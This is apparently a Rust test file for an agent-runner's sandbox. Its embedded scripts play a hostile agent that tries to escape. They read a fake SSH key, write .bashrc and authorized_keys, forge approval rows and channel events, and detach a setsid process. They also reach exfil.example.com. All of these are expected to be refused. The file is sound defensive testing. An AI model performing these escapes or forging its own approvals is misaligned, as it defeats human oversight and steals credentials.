//! The sandbox of unattended runs through the real binary: a daemon with a
//! fake home (a temporary directory holding a fake `~/.ssh/id_ed25519`)
//! fires a trigger whose agent is a shell script that tries to get out,
//! one attempt per line of its report; every attempt must fail. Also: a
//! sandbox asked for on a machine that cannot provide it refuses the run
//! (`NPC_SANDBOX=off`, the documented test seam), and bad `[runs.sandbox]`
//! entries are errors of `npc validate`.

use std::path::Path;

use serde_json::Value;

use crate::support::{Daemon, DaemonSetup, npc, wait_for};
use crate::worktrees::{ended, fire, git};

/// The escaping agent: each attempt prints `NAME escaped` when it got
/// out, `NAME refused` when it did not, into `$TMPDIR/report`.
const ESCAPE: &str = r#"#!/bin/sh
r="$TMPDIR/report"
try() { name="$1"; shift; if "$@" >/dev/null 2>&1; then echo "$name escaped" >> "$r"; else echo "$name refused" >> "$r"; fi; }
key="$HOME/.ssh/id_ed25519"
try read_direct cat "$key"
ln -s "$key" link 2>/dev/null
try read_symlink cat link
try read_hardlink sh -c "ln '$key' hard && cat hard"
try read_proc_root cat "/proc/self/root$key"
try write_bashrc sh -c "echo pwned >> '$HOME/.bashrc'"
try write_beside_worktree sh -c "echo pwned > ../beside.txt"
try read_api_token cat "$NPC_REPO_ROOT/.npc/api.token"
try read_state_db cat "$NPC_REPO_ROOT/.npc/state.db"
try read_state_wal cat "$NPC_REPO_ROOT/.npc/state.db-wal"
try read_other_worktree cat "$NPC_REPO_ROOT/.npc/worktrees/zz-other/secret.txt"
try read_other_run cat "$NPC_REPO_ROOT/.npc/runs/zz-other/secret.txt"
try read_daemon_environ sh -c "cat /proc/[0-9]*/environ 2>/dev/null | tr '\0' '\n' | grep -q DAEMON_MARKER=secret"
try kill_daemon sh -c "kill -0 $(cat '$NPC_REPO_ROOT/daemon.pid')"
try unshare_root unshare -r true
try unshare_mount unshare -rm sh -c "mount -t tmpfs none /mnt"
try write_home_ssh sh -c "echo pwned > '$HOME/.ssh/authorized_keys'"
s="$NPC_REPO_ROOT/.npc"
try write_state_db sh -c "printf x >> '$s/state.db'"
try insert_approval python3 "$NPC_REPO_ROOT/forge.py" "$s/state.db" "$NPC_RUN_ID"
try write_state_wal sh -c "printf x >> '$s/state.db-wal'"
try delete_state_wal rm "$s/state.db-wal"
try write_api_token sh -c "echo forged > '$s/api.token'"
try delete_api_token rm "$s/api.token"
try queue_a_run mkdir "$s/runs/forged"
try queue_by_socket sh -c "cd '$NPC_REPO_ROOT' && '$NPC_BIN' trigger fire agent"
c="$NPC_REPO_ROOT/channel.py"
try forge_channel_run python3 "$c" "$NPC_RUN_CHANNEL" zz-other "$NPC_RUN_PASS"
try forge_channel_event python3 "$c" "$NPC_RUN_CHANNEL" "$NPC_RUN_ID" "$NPC_RUN_PASS" zz-other
try forge_channel_secret python3 "$c" "$NPC_RUN_CHANNEL" "$NPC_RUN_ID" wrong
python3 "$c" "$NPC_RUN_CHANNEL" "$NPC_RUN_ID" "$NPC_RUN_PASS" && echo "channel_own works" >> "$r"
cat setup.txt >> "$r"
setsid sh -c 'cut -d" " -f1 /proc/self/stat > "$TMPDIR/setsid.pid"; exec sleep 300' </dev/null >/dev/null 2>&1 &
for _ in 1 2 3 4 5 6 7 8 9 10; do [ -s "$TMPDIR/setsid.pid" ] && break; sleep 0.1; done
echo done >> "$r"
echo "in the worktree" > made.txt
"#;

/// Inserts an answered approval of run ARGV[2] into the store ARGV[1]
/// (what a prompt-injected agent would do to let its own ask through).
const FORGE: &str = r#"import sqlite3, sys
db = sqlite3.connect(sys.argv[1], timeout=5)
db.execute("INSERT INTO approvals (id, run_id, tool, rule, arguments, fingerprint, state, asked_at_ms, deadline_ms) VALUES (?, ?, 'Bash', 'forged', '{}', 'f', 'allowed', 0, 0)", ("forged-" + sys.argv[2], sys.argv[2]))
db.commit()
"#;

/// Sends a run's channel ARGV[1] a `tool.denied` of run ARGV[4] (else
/// ARGV[2]) as run ARGV[2] with secret ARGV[3]; exits 0 when recorded.
const CHANNEL: &str = r#"import json, socket, sys
run = sys.argv[2]
event_run = sys.argv[4] if len(sys.argv) > 4 else run
s = socket.socket(socket.AF_UNIX)
s.connect(sys.argv[1])
denied = {"kind": "tool.denied", "payload": {"run_id": event_run, "tool": "forged", "rule": "channel", "by": "hook"}}
s.sendall((json.dumps({"protocol": 1, "run": run, "secret": sys.argv[3], "op": {"kind": "record", "events": [denied]}}) + "\n").encode())
reply = json.loads(s.makefile().readline())
sys.exit(0 if reply.get("reply") == "recorded" else 1)
"#;

/// The in-place agent: each attempt on npc's state in the checkout it
/// works in, reported as [`ESCAPE`]'s are; then it writes in the checkout.
const IN_PLACE: &str = r#"#!/bin/sh
r="$TMPDIR/report"
try() { name="$1"; shift; if "$@" >/dev/null 2>&1; then echo "$name escaped" >> "$r"; else echo "$name refused" >> "$r"; fi; }
s="$PWD/.npc"
try read_state_db cat "$s/state.db"
try write_state_db sh -c "printf x >> '$s/state.db'"
try insert_approval python3 forge.py "$s/state.db" "$NPC_RUN_ID"
try delete_state_wal rm "$s/state.db-wal"
try replace_api_token sh -c "echo forged > token.new && mv token.new '$s/api.token'"
try delete_api_token rm "$s/api.token"
try make_in_state_dir sh -c "echo x > '$s/forged'"
try rename_state_dir mv "$s" "$PWD/.npc-moved"
try remove_state_db rm -f "$s/state.db" "$s/state.db-shm"
try remove_state_dir rmdir "$s"
try queue_by_socket "$NPC_BIN" trigger fire agent
echo done >> "$r"
echo "in place" > made.txt
"#;

fn manifest(extra: &str) -> String {
    format!(
        r#"version = 1
[daemon]
listen = "127.0.0.1:0"
webhook_listen = "127.0.0.1:0"
{extra}
[providers.escape]
kind = "claude_code"
command = "./escape.sh"
env = {{ NPC_BIN = {npc:?} }}

[prompts.task]
template = "get out"

[profiles.dev]
provider = "escape"
description = "tries to get out"
prompt = "task"

[triggers.agent]
kind = "cron"
schedule = "@yearly"
setup = ["if cat \"$HOME/.ssh/id_ed25519\"; then echo setup_read_key escaped; else echo setup_read_key refused; fi > setup.txt"]
action = {{ profile = "dev" }}
"#,
        npc = crate::support::npc_path().display().to_string()
    )
}

/// A repository with the escaping agent, and a fake home beside it.
fn setup(extra: &str) -> (tempfile::TempDir, tempfile::TempDir) {
    repository_with(&manifest(extra), ESCAPE)
}

/// A repository whose agent is `script`, and a fake home beside it.
fn repository_with(manifest: &str, script: &str) -> (tempfile::TempDir, tempfile::TempDir) {
    let dir = crate::worktrees::repository(
        manifest,
        &[
            ("escape.sh", script),
            ("forge.py", FORGE),
            ("channel.py", CHANNEL),
        ],
    );
    std::fs::set_permissions(
        dir.path().join("escape.sh"),
        std::os::unix::fs::PermissionsExt::from_mode(0o755),
    )
    .unwrap();
    git(dir.path(), &["add", "escape.sh"]);
    git(dir.path(), &["commit", "--quiet", "-m", "mode"]);
    let home = tempfile::tempdir().unwrap();
    std::fs::create_dir_all(home.path().join(".ssh")).unwrap();
    std::fs::write(home.path().join(".ssh/id_ed25519"), "PRIVATE KEY").unwrap();
    std::fs::write(home.path().join(".bashrc"), "# bashrc\n").unwrap();
    (dir, home)
}

fn start(dir: &Path, home: &Path, extra_env: &[(&str, &str)]) -> Daemon {
    let home_s = home.display().to_string();
    let claude = home.join(".claude").display().to_string();
    let data = home.join(".local/share").display().to_string();
    let mut env: Vec<(&str, &str)> = vec![
        ("HOME", &home_s),
        ("CLAUDE_CONFIG_DIR", &claude),
        ("XDG_DATA_HOME", &data),
        ("DAEMON_MARKER", "secret"),
    ];
    env.extend_from_slice(extra_env);
    let daemon = Daemon::start_in_with(
        dir,
        DaemonSetup {
            only_env: Some(&env),
            ..DaemonSetup::default()
        },
    );
    std::fs::write(dir.join("daemon.pid"), daemon.pid().to_string()).unwrap();
    daemon
}

#[test]
fn every_escape_of_an_unattended_run_fails_and_the_run_still_works_in_its_worktree() {
    let (dir, home) = setup("");
    // What another run left: its worktree and its run directory.
    for other in [".npc/worktrees/zz-other", ".npc/runs/zz-other"] {
        std::fs::create_dir_all(dir.path().join(other)).unwrap();
        std::fs::write(dir.path().join(other).join("secret.txt"), "theirs").unwrap();
    }
    let daemon = start(dir.path(), home.path(), &[]);
    assert!(dir.path().join(".npc/api.token").is_file());
    let id = fire(dir.path(), "agent", "{}");
    ended(dir.path(), 1);
    let run_dir = dir.path().join(".npc/runs").join(&id);
    let report = std::fs::read_to_string(run_dir.join("tmp/report"))
        .unwrap_or_else(|e| panic!("no report ({e}):\n{}", daemon.log()));
    assert!(report.ends_with("done\n"), "{report}");
    let escaped: Vec<&str> = report.lines().filter(|l| l.ends_with("escaped")).collect();
    assert!(escaped.is_empty(), "escaped: {escaped:?}\n{report}");
    assert_eq!(
        report.lines().filter(|l| l.ends_with("refused")).count(),
        28,
        "{report}"
    );
    // Its own record on its channel worked (so the refusals are the
    // channel's), and made the run `blocked`; nothing names another run.
    assert!(report.contains("channel_own works\n"), "{report}");
    let row = &crate::worktrees::runs(dir.path())[0];
    assert_eq!(row["state"], "blocked", "{row}");
    let events = npc()
        .current_dir(dir.path())
        .args(["events", "--format", "json"])
        .output()
        .unwrap();
    let events = String::from_utf8_lossy(&events.stdout);
    assert!(!events.contains("zz-other"), "{events}");
    // npc's state is as it was, and the forgery works where nothing
    // forbids it (so the refusals above are the sandbox's).
    state_is_intact(dir.path(), &id);
    // Nothing was written outside.
    assert_eq!(
        std::fs::read_to_string(home.path().join(".bashrc")).unwrap(),
        "# bashrc\n"
    );
    assert!(!home.path().join(".ssh/authorized_keys").exists());
    assert!(crate::support::alive(daemon.pid()));
    // The setsid process ended with the run.
    let pid: u32 = std::fs::read_to_string(run_dir.join("tmp/setsid.pid"))
        .unwrap()
        .trim()
        .parse()
        .unwrap();
    wait_for("the setsid process to end with its run", || {
        (!crate::support::alive(pid)).then_some(())
    });
    // Its work in the worktree is there (kept or on its branch).
    let on_branch = std::process::Command::new("git")
        .args(["show", &format!("npc/{id}:made.txt")])
        .current_dir(dir.path())
        .output()
        .unwrap();
    let kept = dir.path().join(".npc/worktrees").join(&id).join("made.txt");
    assert!(
        on_branch.status.success() || kept.is_file(),
        "the agent could not write in its worktree:\n{}",
        daemon.log()
    );
}

/// The store of `dir` holds no forged approval of run `id`, its token is
/// the daemon's, and the forging script itself works outside a sandbox.
fn state_is_intact(dir: &Path, id: &str) {
    let state = dir.join(".npc");
    assert!(state.join("state.db-wal").is_file());
    // No run was queued from inside.
    assert_eq!(crate::worktrees::runs(dir).len(), 1);
    let token = std::fs::read_to_string(state.join("api.token")).unwrap();
    assert!(!token.contains("forged"), "{token}");
    assert!(!state.join("runs/forged").exists());
    let forged = |run: &str| {
        std::process::Command::new("python3")
            .arg(dir.join("forge.py"))
            .arg(state.join("state.db"))
            .arg(run)
            .status()
            .unwrap()
            .success()
    };
    // The run's own forgery is not there (a second insert would clash).
    assert!(forged(id), "the run forged an approval");
    assert!(forged("zz-control"));
}

#[test]
fn a_sandbox_asked_for_where_the_machine_cannot_provide_it_refuses_the_run() {
    let (dir, home) = setup("[runs]\nsandbox = \"workspace\"\n");
    let _daemon = start(dir.path(), home.path(), &[("NPC_SANDBOX", "off")]);
    let id = fire(dir.path(), "agent", "{}");
    let rows = ended(dir.path(), 1);
    assert_eq!(rows[0]["state"], "failed", "{rows:#?}");
    let detail = rows[0].to_string();
    assert!(
        detail.contains("cannot provide it") && detail.contains("NPC_SANDBOX=off"),
        "{detail}"
    );
    assert!(
        !dir.path()
            .join(".npc/runs")
            .join(&id)
            .join("tmp/report")
            .exists()
    );
}

#[test]
fn bad_sandbox_entries_are_errors_of_validate() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(
        dir.path().join("npcagent.toml"),
        "version = 1\n[runs.sandbox]\nmode = \"strict\"\nwritable = [\"/etc\", \"~/.ssh\", \"../up\"]\nallow_hosts = [\"https://example.com/x\", \"*.*.com\", \"ok.example.com:443\", \"h:0\"]\n",
    )
    .unwrap();
    let out = npc()
        .current_dir(dir.path())
        .arg("validate")
        .output()
        .unwrap();
    assert!(!out.status.success());
    let said = String::from_utf8_lossy(&out.stdout);
    for expected in [
        "`writable` entry `/etc` is outside the home directory and the repository",
        "writable_outside",
        "`writable` entry `~/.ssh` opens `~/.ssh`",
        "climbs with `..`",
        "`allow_hosts` entry `https://example.com/x` is not a host: a URL",
        "`allow_hosts` entry `*.*.com` is not a host",
        "`allow_hosts` entry `h:0` is not a host",
        "6 errors",
    ] {
        assert!(said.contains(expected), "{expected}\n{said}");
    }
    assert!(!said.contains("entry `ok.example.com"), "{said}");
}

/// The `strict` agent: direct connections, the proxy to an allowed and a
/// refused port, a refused name, and name resolution, each reported.
const STRICT: &str = r#"#!/usr/bin/env python3
import os, socket, urllib.request
report = open(os.path.join(os.environ["TMPDIR"], "report"), "a")
a, b = int(os.environ["PORT_A"]), int(os.environ["PORT_B"])
def attempt(name, fn):
    try:
        fn()
        report.write(name + " escaped\n")
    except Exception as e:
        report.write(name + " refused\n")
def direct(port):
    socket.create_connection(("127.0.0.1", port), timeout=3).close()
def via_proxy(url):
    return urllib.request.urlopen(url, timeout=10).read()
attempt("direct_loopback_refused_port", lambda: direct(b))
attempt("direct_loopback_allowed_port", lambda: direct(a))
attempt("direct_outside", lambda: socket.create_connection(("192.0.2.1", 80), timeout=3))
attempt("resolve_name", lambda: socket.getaddrinfo("example.com", 80))
attempt("proxy_refused_port", lambda: via_proxy("http://127.0.0.1:%d/" % b))
attempt("proxy_refused_host", lambda: via_proxy("http://exfil.example.com/secret"))
body = via_proxy("http://127.0.0.1:%d/ok" % a)
report.write("proxy_allowed " + body.decode() + "\n")
report.write("done\n")
report.close()
"#;

/// An HTTP server on loopback answering every request with `body`; the
/// flag says whether anyone reached it.
fn http_server(body: &'static str) -> (u16, std::sync::Arc<std::sync::atomic::AtomicBool>) {
    use std::io::{Read, Write};
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let hit = std::sync::Arc::new(std::sync::atomic::AtomicBool::new(false));
    let seen = hit.clone();
    std::thread::spawn(move || {
        for conn in listener.incoming() {
            let Ok(mut conn) = conn else { continue };
            seen.store(true, std::sync::atomic::Ordering::SeqCst);
            let mut buf = [0u8; 4096];
            let _ = conn.read(&mut buf);
            let _ = write!(
                conn,
                "HTTP/1.1 200 OK\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
                body.len()
            );
        }
    });
    (port, hit)
}

#[test]
fn a_strict_run_reaches_only_allowed_hosts_through_the_proxy_and_each_attempt_is_an_event() {
    let (allowed, _) = http_server("reached");
    let (refused, refused_hit) = http_server("leaked");
    let extra =
        format!("[runs.sandbox]\nmode = \"strict\"\nallow_hosts = [\"127.0.0.1:{allowed}\"]\n");
    let dir = crate::worktrees::repository(
        &manifest(&extra).replace(
            "command = \"./escape.sh\"\nenv = {",
            &format!(
                "command = \"./strict.py\"\nenv = {{ PORT_A = \"{allowed}\", PORT_B = \"{refused}\","
            ),
        ),
        &[("strict.py", STRICT)],
    );
    std::fs::set_permissions(
        dir.path().join("strict.py"),
        std::os::unix::fs::PermissionsExt::from_mode(0o755),
    )
    .unwrap();
    git(dir.path(), &["add", "strict.py"]);
    git(dir.path(), &["commit", "--quiet", "-m", "mode"]);
    let home = tempfile::tempdir().unwrap();
    let daemon = start(dir.path(), home.path(), &[]);
    let id = fire(dir.path(), "agent", "{}");
    ended(dir.path(), 1);
    let report = std::fs::read_to_string(dir.path().join(".npc/runs").join(&id).join("tmp/report"))
        .unwrap_or_else(|e| panic!("no report ({e}):\n{}", daemon.log()));
    assert!(
        report.ends_with("proxy_allowed reached\ndone\n"),
        "{report}"
    );
    let escaped: Vec<&str> = report.lines().filter(|l| l.ends_with("escaped")).collect();
    assert!(escaped.is_empty(), "escaped: {escaped:?}\n{report}");
    assert_eq!(
        report.lines().filter(|l| l.ends_with("refused")).count(),
        6,
        "{report}"
    );
    assert!(!refused_hit.load(std::sync::atomic::Ordering::SeqCst));
    let events = daemon.events();
    let egress: Vec<(String, u64, bool)> = events
        .iter()
        .filter(|e| e["kind"] == "run.egress")
        .map(|e| {
            let p = &e["payload"];
            (
                p["host"].as_str().unwrap_or_default().to_string(),
                p["port"].as_u64().unwrap_or_default(),
                p["allowed"].as_bool().unwrap_or_default(),
            )
        })
        .collect();
    for expected in [
        ("127.0.0.1".to_string(), u64::from(allowed), true),
        ("127.0.0.1".to_string(), u64::from(refused), false),
        ("exfil.example.com".to_string(), 80, false),
    ] {
        assert!(egress.contains(&expected), "{expected:?} in {egress:?}");
    }
    let denied = events
        .iter()
        .filter(|e| e["kind"] == "tool.denied" && e["payload"]["by"] == "sandbox")
        .count();
    assert_eq!(denied, 2, "{events:#?}");
}

/// An in-place run works in the checkout itself, which holds npc's state:
/// it writes its files there, and every attempt to write, replace, rename
/// or remove npc's state (or to answer its own ask over the daemon's
/// socket) fails.
#[test]
fn an_in_place_run_writes_the_checkout_but_not_npcs_state_in_it() {
    let text = manifest("")
        .replace(
            "prompt = \"task\"\n",
            "prompt = \"task\"\nworkspace = \"in_place\"\n",
        )
        .lines()
        .filter(|l| !l.starts_with("setup = "))
        .collect::<Vec<_>>()
        .join("\n");
    let (dir, home) = repository_with(&text, IN_PLACE);
    let daemon = start(dir.path(), home.path(), &[]);
    let token = std::fs::read_to_string(dir.path().join(".npc/api.token")).unwrap();
    let id = fire(dir.path(), "agent", "{}");
    ended(dir.path(), 1);
    let report = std::fs::read_to_string(dir.path().join(".npc/runs").join(&id).join("tmp/report"))
        .unwrap_or_else(|e| panic!("no report ({e}):\n{}", daemon.log()));
    assert!(report.ends_with("done\n"), "{report}");
    let escaped: Vec<&str> = report.lines().filter(|l| l.ends_with("escaped")).collect();
    assert!(escaped.is_empty(), "escaped: {escaped:?}\n{report}");
    assert_eq!(
        report.lines().filter(|l| l.ends_with("refused")).count(),
        11,
        "{report}"
    );
    assert_eq!(
        std::fs::read_to_string(dir.path().join("made.txt")).unwrap(),
        "in place\n",
        "the agent could not write in the checkout:\n{}",
        daemon.log()
    );
    assert!(!dir.path().join(".npc-moved").exists());
    assert!(!dir.path().join(".npc/forged").exists());
    assert_eq!(
        std::fs::read_to_string(dir.path().join(".npc/api.token")).unwrap(),
        token
    );
    state_is_intact(dir.path(), &id);
    assert!(crate::support::alive(daemon.pid()));
}

/// The gateway agent: its `npc mcp serve` makes one call as the run, then
/// one claiming another run's id (with its own secret), each answer in
/// `$TMPDIR`.
const GATEWAY: &str = r#"#!/bin/sh
steps='[["call", "search_tools", {"query": "x"}]]'
python3 "$MCP_CLIENT" "$steps" -- "$NPC_BIN" mcp serve > "$TMPDIR/own.out" 2>&1
NPC_RUN_ID=run-20261201t000000000z-0a1b2c3d python3 "$MCP_CLIENT" "$steps" -- "$NPC_BIN" mcp serve > "$TMPDIR/forged.out" 2>&1
echo done > "$TMPDIR/report"
"#;

/// The `mcp.tool_call` events of `dir`'s store: each one's `run_id`.
fn tool_call_runs(dir: &Path) -> Vec<Value> {
    let out = npc()
        .current_dir(dir)
        .args(["events", "--format", "json"])
        .output()
        .unwrap();
    String::from_utf8_lossy(&out.stdout)
        .lines()
        .filter_map(|l| serde_json::from_str::<Value>(l).ok())
        .filter(|e| e["kind"] == "mcp.tool_call")
        .map(|e| e["payload"]["run_id"].clone())
        .collect()
}

/// A sandboxed run's `npc mcp serve` records its calls as its run, in
/// front of the daemon (the control socket takes its run id with its
/// secret) and on its own (over the run's channel, to `npc run`); one that
/// claims another run's id is never recorded as that run.
#[test]
fn a_sandboxed_gateway_records_its_calls_as_its_own_run_only() {
    let text = manifest("[mcp]\ntools = \"search\"\n[runs]\nsandbox = \"workspace\"\n")
        .replace(
            "env = {",
            &format!(
                "env = {{ MCP_CLIENT = {:?},",
                crate::support::repo_root()
                    .join("fixtures/mcp/client.py")
                    .display()
                    .to_string()
            ),
        )
        .lines()
        .filter(|l| !l.starts_with("setup = "))
        .collect::<Vec<_>>()
        .join("\n");
    let forged = "run-20261201t000000000z-0a1b2c3d";
    // In front of the daemon.
    let (dir, home) = repository_with(&text, GATEWAY);
    let daemon = start(dir.path(), home.path(), &[]);
    let id = fire(dir.path(), "agent", "{}");
    ended(dir.path(), 1);
    let tmp = dir.path().join(".npc/runs").join(&id).join("tmp");
    let said = |name: &str| std::fs::read_to_string(tmp.join(name)).unwrap_or_default();
    assert_eq!(said("report"), "done\n", "{}", daemon.log());
    assert!(said("own.out").contains("is_error"), "{}", said("own.out"));
    let runs = wait_for("both calls recorded", || {
        let runs = tool_call_runs(dir.path());
        (runs.len() >= 2).then_some(runs)
    });
    assert_eq!(runs.len(), 2, "{runs:?}");
    assert!(runs.contains(&Value::String(id.clone())), "{runs:?}");
    assert!(!runs.contains(&Value::String(forged.into())), "{runs:?}");
    drop(daemon);
    // On its own: `npc run` by hand, no daemon.
    let out = npc()
        .current_dir(dir.path())
        .env("HOME", home.path())
        .args(["run", "dev", "--prompt", "go"])
        .output()
        .unwrap();
    assert!(out.status.success(), "{out:?}");
    let runs = tool_call_runs(dir.path());
    let own = crate::worktrees::runs(dir.path())[0]["id"]
        .as_str()
        .unwrap()
        .to_string();
    assert_ne!(own, id);
    assert!(runs.contains(&Value::String(own)), "{runs:?}");
    assert!(!runs.contains(&Value::String(forged.into())), "{runs:?}");
}
